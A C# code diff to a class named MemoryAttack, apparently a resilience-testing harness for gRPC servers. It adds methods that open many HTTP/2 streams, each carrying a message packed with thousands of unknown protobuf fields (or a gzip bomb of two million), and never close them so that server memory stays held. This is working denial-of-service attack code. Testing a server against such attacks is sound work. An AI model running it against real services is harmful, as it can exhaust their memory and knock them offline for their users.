@@ -1,3 +1,4 @@
+using System.IO.Compression;
 using System.Net;
 using Google.Protobuf;
 using Google.Protobuf.WellKnownTypes;
@@ -50,6 +51,24 @@ static class MemoryAttack
             address, calls, async channel => await new OrderManagement.OrderManagementClient(channel).addOrderAsync(order, cancellationToken: end), end);
     }
 
+    /// <summary>
+    /// Begins streams with one short message each, which has many fields that nobody knows: 2,000, or compressed as many as fit into
+    /// 4 MiB. The stream keeps what was made of it until the next message, which does not come.
+    /// </summary>
+    public static void Fields(int port, int streams, bool isCompressed, CancellationToken end)
+    {
+        var message = isCompressed ? Gzip(UnknownFields(2_000_000)) : UnknownFields(2_000);
+        Hold(port, streams, Package + "processOrders", message, isCompressed, end);
+    }
+
+    /// <summary>Likewise, but they are fields of a message in the message.</summary>
+    public static void NestedFields(int port, int streams, CancellationToken end)
+    {
+        var fields = UnknownFields(2_000);
+        // A RouteNote whose location has them: field 1, and a length of 4,000 in two bytes.
+        Hold(port, streams, "/routeguide.RouteGuide/RouteChat", [10, 0xa0, 0x1f, .. fields], isCompressed: false, end);
+    }
+
     /// <summary>Leaves notes in chats, each at a place of its own.</summary>
     public static Task ChatsAsync(Uri address, int chats, CancellationToken end) => RepeatAsync(address, chats, async channel =>
     {
@@ -96,6 +115,39 @@ static class MemoryAttack
         }
 
         await Task.Delay(TimeSpan.FromSeconds(1), end).ConfigureAwait(ConfigureAwaitOptions.SuppressThrowing);
+    }
+
+    static void Hold(int port, int streams, string method, byte[] message, bool isCompressed, CancellationToken end) => InRounds(
+        () => [.. Enumerable.Range(0, streams / PerConnection).Select(_ =>
+        {
+            var connection = HostileConnection.Open(port);
+            for (var i = 0; i < PerConnection && connection is not null; i++)
+            {
+                var stream = (2 * i) + 1;
+                var headers = isCompressed ? Http2Frame.HeadersWith(stream, method, ("grpc-encoding", "gzip")) : Http2Frame.Headers(stream, method);
+                if (!connection.Send([.. headers, .. Http2Frame.Message(stream, message, endStream: false, isCompressed)]) || !connection.Drain())
+                    break;
+            }
+
+            return connection;
+        })],
+        end);
+
+    // Field 15, the number 0.
+    static byte[] UnknownFields(int count)
+    {
+        var fields = new byte[2 * count];
+        for (var i = 0; i < fields.Length; i += 2)
+            fields[i] = 15 << 3;
+        return fields;
+    }
+
+    static byte[] Gzip(byte[] message)
+    {
+        using var packed = new MemoryStream();
+        using (var gzip = new GZipStream(packed, CompressionLevel.SmallestSize))
+            gzip.Write(message);
+        return packed.ToArray();
     }
 
     static void InRounds(Func<List<HostileConnection?>> open, CancellationToken end)
